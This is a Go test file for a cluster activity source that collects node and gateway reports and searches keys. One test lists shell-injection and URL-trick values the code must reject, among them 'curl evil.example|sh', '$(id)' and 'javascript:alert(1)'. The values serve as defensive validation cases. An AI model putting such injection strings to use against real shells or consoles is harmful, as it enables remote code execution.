package activity

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/jeton-dev/jeton/internal/metrics"
	"github.com/jeton-dev/jeton/ring/cluster/status"
)

// newTestSource counts how often it is asked.
func newTestSource(cfg SourceConfig) (*Source, *atomic.Int64) {
	asked := new(atomic.Int64)
	cfg.Name, cfg.Version = "a", "v1"
	if cfg.Here == nil {
		cfg.Here = func(context.Context) (Node, error) {
			asked.Add(1)
			return Node{Awake: 7}, nil
		}
	}
	return NewSource(cfg), asked
}

// TestLookIsShared makes one Look for all who ask within half a second, and none without them.
func TestLookIsShared(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		const takes = 300 * time.Millisecond
		s, asked := newTestSource(SourceConfig{Others: func(context.Context, json.RawMessage) []Told {
			<-time.After(takes)
			return nil
		}})
		for range 50 {
			go func() {
				if look, err := s.Look(t.Context()); err != nil || len(look.Nodes) != 1 || look.Nodes[0].Awake != 7 {
					t.Errorf("got %+v, %v", look, err)
				}
			}()
		}
		<-time.After(time.Second)
		if n := asked.Load(); n != 1 {
			t.Errorf("the node was asked %d times by 50 at once, want once", n)
		}
		<-time.After(time.Hour)
		if n := asked.Load(); n != 1 {
			t.Errorf("the node was asked %d times, and nobody looks", n)
		}
		first, _ := s.Look(t.Context())
		<-time.After(lookFor - takes - time.Millisecond)
		if again, _ := s.Look(t.Context()); !again.At.Equal(first.At) {
			t.Error("another Look within half a second")
		}
		<-time.After(time.Millisecond)
		if again, _ := s.Look(t.Context()); again.At.Equal(first.At) || asked.Load() != 3 {
			t.Error("the same Look after half a second")
		}
	})
}

// TestLookOutlivesWhoAsks leaves a Look that is being made to others when the first one goes.
func TestLookOutlivesWhoAsks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, _ := newTestSource(SourceConfig{Others: func(ctx context.Context, _ json.RawMessage) []Told {
			select {
			case <-time.After(200 * time.Millisecond):
			case <-ctx.Done():
				t.Error("it was given up")
			}
			return nil
		}})
		gone, cancel := context.WithCancel(t.Context())
		go s.Look(gone) //nolint:errcheck // it is the other's answer that counts
		synctest.Wait()
		cancel()
		if look, err := s.Look(t.Context()); err != nil || len(look.Nodes) != 1 {
			t.Errorf("got %+v, %v", look, err)
		}
		go s.Look(t.Context()) //nolint:errcheck // likewise
		synctest.Wait()
		if _, err := s.Look(gone); err != nil && !errors.Is(err, context.Canceled) {
			t.Error(err)
		}
		<-time.After(time.Second)
	})
}

// TestOthersAreHeard takes in what others tell, what they do not, and what cannot be read.
func TestOthersAreHeard(t *testing.T) {
	other, _ := newTestSource(SourceConfig{Search: func(_ context.Context, q KeysAsked) (KeysFound, error) {
		return KeysFound{Keys: []Key{{Key: q.Prefix + "2", Escaped: q.Prefix + "2"}}, Complete: true}, nil
	}})
	s, _ := newTestSource(SourceConfig{
		Search: func(_ context.Context, q KeysAsked) (KeysFound, error) {
			return KeysFound{Keys: []Key{{Key: q.Prefix + "1", Escaped: q.Prefix + "1"}}, Complete: true}, nil
		},
		Others: func(ctx context.Context, q json.RawMessage) []Told {
			text, err := other.Answer(ctx, q)
			if err != nil {
				t.Error(err)
			}
			return []Told{{Name: "b", ID: "2", Answer: text}, {Name: "c", Error: "it cannot be reached"}, {Name: "d", Answer: json.RawMessage(`"x"`)}}
		},
	})
	look, err := s.Look(t.Context())
	if err != nil || len(look.Nodes) != 4 {
		t.Fatalf("got %+v, %v", look, err)
	}
	for i, want := range []string{"", "", "it cannot be reached", "it answers what this node cannot read"} {
		n := look.Nodes[i]
		if n.Name != string(rune('a'+i)) || !strings.HasPrefix(n.Error, want) || (n.Error == "") != (want == "") || want == "" && n.Awake != 7 {
			t.Errorf("got %+v", n)
		}
	}
	found, err := s.Keys(t.Context(), KeysAsked{Prefix: "k"})
	if err != nil || found.Complete || fmt.Sprint(found.Silent) != "[c d]" || len(found.Keys) != 2 || found.Keys[0].Node != "a" || found.Keys[1].Node != "b" {
		t.Errorf("found %+v, %v", found, err)
	}
	if few, _ := s.Keys(t.Context(), KeysAsked{Prefix: "k", Most: 1}); len(few.Keys) != 1 || few.Keys[0].Key != "k1" {
		t.Errorf("found %+v", few)
	}
	if _, err := other.Answer(t.Context(), json.RawMessage(`7`)); err == nil {
		t.Error("a question that is none was answered")
	}
}

// TestManyKeysAreFound has nine nodes find a thousand long keys each, which begin alike, and one key that all of them have.
func TestManyKeysAreFound(t *testing.T) {
	const nodes = 9
	of := func(node int) (found KeysFound) {
		found.Complete = true
		for i := range MaxKeys {
			key := strings.Repeat("%01", 400) + fmt.Sprintf("%d-%d", node, i)
			if i == 0 {
				key = "%00"
			}
			found.Keys = append(found.Keys, Key{Key: key, Escaped: key, PerSecond: 1})
		}
		return found
	}
	s, _ := newTestSource(SourceConfig{
		Search: func(context.Context, KeysAsked) (KeysFound, error) { return of(0), nil },
		Others: func(context.Context, json.RawMessage) (all []Told) {
			for node := 1; node < nodes; node++ {
				text, err := json.Marshal(of(node))
				if err != nil {
					t.Error(err)
				}
				all = append(all, Told{Name: fmt.Sprint(node), Answer: text})
			}
			return all
		},
	})
	found, err := s.Keys(t.Context(), KeysAsked{Most: MaxKeys})
	if err != nil || len(found.Keys) != MaxKeys || found.Complete || found.Keys[0].Key != "%00" || found.Keys[0].PerSecond != nodes {
		t.Errorf("found %d keys, %v", len(found.Keys), err)
	}
}

// TestGatewaysThatTell keeps what gateways tell, for a while, and not more than fits.
func TestGatewaysThatTell(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, _ := newTestSource(SourceConfig{})
		tell := func(g Gateway) error {
			t.Helper()
			text, err := json.Marshal(g)
			if err != nil {
				t.Fatal(err)
			}
			return s.Tell(text)
		}
		gateways := func() []Gateway {
			look, err := s.Look(t.Context())
			if err != nil {
				t.Fatal(err)
			}
			return look.Nodes[0].Gateways
		}
		if err := tell(Gateway{Name: "edge\x1b[2J", Requests: map[string]float64{"admitted": 10}}); err != nil {
			t.Fatal(err)
		}
		<-time.After(2 * time.Second)
		if err := tell(Gateway{Name: "edge\x1b[2J", Requests: map[string]float64{"admitted": 30, "fail_open": 4}, FailedOpen: map[string]float64{"login": 4}, Limits: map[string]Counts{"login": {Allowed: 20, Denied: 6}}}); err != nil {
			t.Fatal(err)
		}
		look, err := s.Look(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		v := Compare(Look{}, look)
		if len(v.Gateways) != 1 || v.Gateways[0].Name != `"edge\x1b[2J"` || v.Gateways[0].Allowed != 10 || v.Gateways[0].FailedOpen != 2 || v.Total.FailedOpen != 2 {
			t.Errorf("got %+v", v.Gateways)
		}
		if len(v.Limits) != 1 || v.Limits[0].FailedOpen != 2 || v.Limits[0].Allowed != 10 || v.Limits[0].Denied != 3 || v.Total.Denied != 3 {
			t.Errorf("got %+v", v.Limits)
		}
		for i := range MaxGateways - 1 {
			if err := tell(Gateway{Name: fmt.Sprint(i)}); err != nil {
				t.Fatal(err)
			}
		}
		if err := tell(Gateway{Name: "one more"}); !errors.Is(err, errManyGateways) {
			t.Errorf("got %v", err)
		}
		if err := tell(Gateway{Name: "7", Leaves: true}); err != nil {
			t.Fatal(err)
		}
		if err := tell(Gateway{Name: "one more"}); err != nil {
			t.Errorf("a gateway has left, and its place is not free: %v", err)
		}
		<-time.After(silentAfter + 1)
		if err := tell(Gateway{Name: "yet one more"}); err != nil {
			t.Errorf("gateways are silent, and their places are not free: %v", err)
		}
		<-time.After(GatewayFor - silentAfter - 1)
		if n := len(gateways()); n != MaxGateways {
			t.Errorf("there are %d", n)
		}
		<-time.After(silentAfter + 1)
		<-time.After(lookFor)
		if n := len(gateways()); n != 0 {
			t.Errorf("there are %d, and none has told anything", n)
		}
		var outcomes strings.Builder
		for i := range maxOutcomes + 1 {
			fmt.Fprintf(&outcomes, `"o%d":1,`, i)
		}
		for _, wrong := range []string{
			"", "{", "{}", `{"name":"x","requests":{"a":-1}}`, `{"name":"x","requests":{"a\u001b":1}}`, `{"name":"x","latency":{"bounds":[1],"counts":[1]}}`, `{"name":"x","latency":{"bounds":[1],"counts":[1,-1]}}`,
			`{"name":"x","latency":{"counts":[1]}}`, `{"name":"x","latency":{"bounds":[],"counts":[1]}}`, `{"name":"x","latency":{"bounds":[1],"counts":[1,1e300]}}`,
			`{"name":"x","latency":{"bounds":[2,1],"counts":[1,1,1]}}`, `{"name":"x","latency":{"bounds":[-1],"counts":[1,1]}}`, `{"name":"x","latency":{"bounds":[1e307],"counts":[1,1]}}`,
			`{"name":"x","latency":{"bounds":[1]}}`, `{"name":"x","requests":{"a":1e300}}`, `{"name":"x","failed_open":{"a":1e300}}`, `{"name":"x","requests":{` + strings.TrimSuffix(outcomes.String(), ",") + `}}`,
			`{"name":"` + strings.Repeat("x", MaxTold) + `"}`,
		} {
			if err := s.Tell([]byte(wrong)); err == nil {
				t.Errorf("%.40s was taken in", wrong)
			}
		}
	})
}

// TestAddressesOfGateways keeps nothing but addresses: the console shows them in commands, for people who copy these into a shell.
func TestAddressesOfGateways(t *testing.T) {
	for _, tt := range []struct {
		told string
		kept bool
	}{
		{"127.0.0.1:7781", true},
		{"[::]:7781", true},
		{"[fe80::1%eth0]:7781", true},
		{"https://edge-1.example:7781/", true},
		{"http://edge_1", true},
		{"", true},
		{"x:1;curl evil.example|sh", false},
		{"x:1$(id)", false},
		{"x:1`id`", false},
		{"x:1 --token-file y", false},
		{"--gateway", false},
		{"x:1\n", false},
		{"javascript:alert(1)", false},
		{"http://good.example@evil.example/", false},
		{"http://x/path?a", false},
	} {
		s, _ := newTestSource(SourceConfig{})
		text, err := json.Marshal(Gateway{Name: "edge", Admin: tt.told})
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Tell(text); err != nil {
			t.Fatal(err)
		}
		look, err := s.Look(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		want := ""
		if tt.kept {
			want = tt.told
		}
		if got := look.Nodes[0].Gateways[0].Admin; got != want {
			t.Errorf("%q: kept %q", tt.told, got)
		}
	}
}

// TestWhatGatewaysTellIsTold has whatever a gateway may tell come out as JSON, and in few words.
func TestWhatGatewaysTellIsTold(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s, _ := newTestSource(SourceConfig{})
		failed := map[string]float64{}
		for i := range 600 {
			failed[fmt.Sprintf("l%d", i)] = maxCount
		}
		for i, told := range []string{"0", fmt.Sprint(float64(maxCount))} {
			for g := range MaxGateways {
				text := fmt.Sprintf(`{"name":"g%d","requests":{"fail_open":%s},"latency":{"bounds":[%v],"counts":[%s,%s]}`, g, told, float64(maxBound), told, told)
				if i > 0 {
					names, err := json.Marshal(failed)
					if err != nil {
						t.Fatal(err)
					}
					text += `,"failed_open":` + string(names)
				}
				if err := s.Tell([]byte(text + "}")); err != nil {
					t.Fatal(err)
				}
			}
			<-time.After(time.Nanosecond)
		}
		look, err := s.Look(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		v := Compare(Look{}, look)
		if _, err := json.Marshal(v); err != nil {
			t.Error(err)
		}
		if len(v.Limits) > mostStrange {
			t.Errorf("%d limits are told of that no node knows", len(v.Limits))
		}
		if v.Total.FailedOpen <= 0 {
			t.Error("requests that passed are not in the total")
		}
	})
}

// A gateway tells now this node and now that one, and says only one of them that it stops: what another has heard before is not shown as silent.
func TestGatewayThatHasLeft(t *testing.T) {
	now := start
	tell := func(to *gateways, g Gateway) {
		t.Helper()
		text, err := json.Marshal(g)
		if err != nil {
			t.Fatal(err)
		}
		if err := to.tell(text, now); err != nil {
			t.Fatal(err)
		}
		now = now.Add(2 * time.Second)
	}
	var a, b gateways
	shown := func() []GatewayRates {
		return Compare(Look{}, Look{At: now, Nodes: []Node{{Name: "a", Now: now, Gateways: a.told(now)}, {Name: "b", Now: now, Gateways: b.told(now)}}}).Gateways
	}
	edge := Gateway{Name: "edge", Started: start, Requests: map[string]float64{"admitted": 10}}
	tell(&b, edge)
	tell(&a, edge)
	tell(&a, Gateway{Name: "edge", Leaves: true})
	now = now.Add(time.Minute)
	if got := shown(); len(got) != 0 {
		t.Errorf("it has left, and is shown as %+v", got)
	}
	edge.Started = now
	tell(&b, edge)
	if got := shown(); len(got) != 1 || got[0].Silent != 0 {
		t.Errorf("it is back, and is shown as %+v", got)
	}
}

// TestBugsEndNothing has everything that a Look and a search ask of this node panic: what is missing is said, and counted, and the process goes on.
func TestBugsEndNothing(t *testing.T) {
	panics := prometheus.NewCounter(prometheus.CounterOpts{})
	s, _ := newTestSource(SourceConfig{
		Here:   func(context.Context) (Node, error) { panic("a bug") },
		Search: func(context.Context, KeysAsked) (KeysFound, error) { panic("a bug") },
		Status: func(context.Context) *status.Status { panic("a bug") },
		Panics: panics,
	})
	look, err := s.Look(t.Context())
	if err != nil || len(look.Nodes) != 1 || !strings.Contains(look.Nodes[0].Error, "a bug") || look.Cluster != nil {
		t.Errorf("got %+v, %v", look, err)
	}
	if _, err := s.Keys(t.Context(), KeysAsked{}); err == nil {
		t.Error("a search that ran into a bug has found something")
	}
	if _, err := s.Answer(t.Context(), json.RawMessage(`{"keys":{}}`)); err == nil {
		t.Error("a search for another node that ran into a bug has found something")
	}
	if n := metrics.Counted(panics); n != 4 {
		t.Errorf("%v bugs are counted, want 4", n)
	}
}

// TestOtherNodesAreBounded has another node ask for more keys than one may be told, and for none in particular.
func TestOtherNodesAreBounded(t *testing.T) {
	var asked []int
	s, _ := newTestSource(SourceConfig{Search: func(_ context.Context, q KeysAsked) (KeysFound, error) {
		asked = append(asked, q.Most)
		return KeysFound{}, nil
	}})
	for _, most := range []int{1 << 30, -1, 0, 3} {
		if _, err := s.Answer(t.Context(), fmt.Appendf(nil, `{"keys":{"most":%d}}`, most)); err != nil {
			t.Fatal(err)
		}
	}
	if want := []int{MaxKeys, DefaultKeys, DefaultKeys, 3}; !slices.Equal(asked, want) {
		t.Errorf("the search is for %v, want %v", asked, want)
	}
}
